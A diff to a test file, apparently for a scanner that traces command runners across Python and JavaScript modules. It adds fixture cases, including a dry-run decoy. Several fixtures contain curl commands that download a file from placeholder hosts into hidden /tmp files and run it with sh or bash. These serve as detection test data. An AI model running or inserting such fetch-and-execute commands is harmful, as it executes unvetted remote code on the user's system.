@@ -748,6 +748,29 @@ r.run('bash', ['/tmp/.q']);
 `,
     },
   ],
+  [
+    'an instance made by the helper file',
+    {
+      'scripts/proc.py': RUNNER_PY + 'runner = Runner()\n',
+      'scripts/main.py': `from .proc import runner
+runner.run(["curl", "-fsSLo", "/tmp/.p", "https://boot.example.org/p"])
+runner.run(["sh", "/tmp/.p"])
+`,
+    },
+  ],
+  [
+    'JS instance exported by a sibling module',
+    {
+      'lib/proc.mjs': `import { spawnSync } from 'node:child_process';
+class Runner { run(bin, args) { return spawnSync(bin, args); } }
+export const runner = new Runner();
+`,
+      'index.mjs': `import { runner } from './lib/proc.mjs';
+runner.run('curl', ['-fsSLo', '/tmp/.q', 'https://get.example.com/q']);
+runner.run('bash', ['/tmp/.q']);
+`,
+    },
+  ],
 ];
 
 /** a helper file with two classes whose methods share a name: only the imported class's counts */
@@ -819,6 +842,16 @@ log.run(["sh", "/tmp/.p"])
 const log = new Log();
 log.run('curl', ['-fsSLo', '/tmp/.q', 'https://get.example.com/q']);
 log.run('bash', ['/tmp/.q']);
+`,
+    },
+  ],
+  [
+    'a dry-run instance made by a helper file with a runner class of the same method name',
+    {
+      'scripts/proc.py': TWO_CLASSES_PY + 'log = Log()\n',
+      'scripts/main.py': `from .proc import log
+log.run(["curl", "-fsSLo", "/tmp/.p", "https://boot.example.org/p"])
+log.run(["sh", "/tmp/.p"])
 `,
     },
   ],
